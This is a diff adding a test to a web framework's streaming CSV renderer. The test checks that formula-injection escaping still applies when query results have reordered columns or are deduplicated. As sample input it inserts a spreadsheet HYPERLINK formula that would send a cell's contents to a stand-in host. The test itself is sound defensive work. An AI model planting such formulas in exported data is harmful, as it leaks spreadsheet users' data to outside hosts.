@@ -191,3 +191,41 @@ def test_csv_view_uses_text_path(pg_engine, make_testapp):
 
     app = make_testapp(setup)
     assert app.get('/r').body == app.get('/y').body
+
+
+def test_a_returned_result_with_filters_is_written_as_filtered(pg_engine, make_testapp):
+    # issue 22 #1/#2, through a view: .columns() picking another order, and
+    # .unique(); the formula guard applies to every cell
+    metadata = MetaData()
+    table = Table('t', metadata, Column('id', Integer, primary_key=True), Column('name', String))
+    metadata.create_all(pg_engine)
+    formula = '=HYPERLINK("http://x/?"&A1,"y")'
+    with Session(pg_engine) as session:
+        session.execute(insert(table), [{'id': 1, 'name': 'a'}, {'id': 2, 'name': formula},
+                                        {'id': 3, 'name': 'a'}])
+        session.commit()
+    statement = select(table.c.id, table.c.name).order_by(table.c.id).execution_options(
+        yield_per=1000)
+
+    def setup(config):
+        def swapped(request):
+            session = Session(pg_engine)
+            request.add_finished_callback(lambda request: session.close())
+            return session.execute(statement).columns('name', 'id')
+
+        def unique(request):
+            session = Session(pg_engine)
+            request.add_finished_callback(lambda request: session.close())
+            return session.execute(select(table.c.name).order_by(table.c.id)
+                                   .execution_options(yield_per=1000)).unique()
+
+        config.add_route('swapped', '/swapped')
+        config.add_route('unique', '/unique')
+        config.add_view(swapped, route_name='swapped', renderer='csv', stream=True)
+        config.add_view(unique, route_name='unique', renderer='csv', stream=True)
+
+    app = make_testapp(setup)
+    assert app.get('/swapped').body == (
+        b'name,id\r\na,1\r\n"\'=HYPERLINK(""http://x/?""&A1,""y"")",2\r\na,3\r\n')
+    assert app.get('/unique').body == (
+        b'name\r\na\r\n"\'=HYPERLINK(""http://x/?""&A1,""y"")"\r\n')
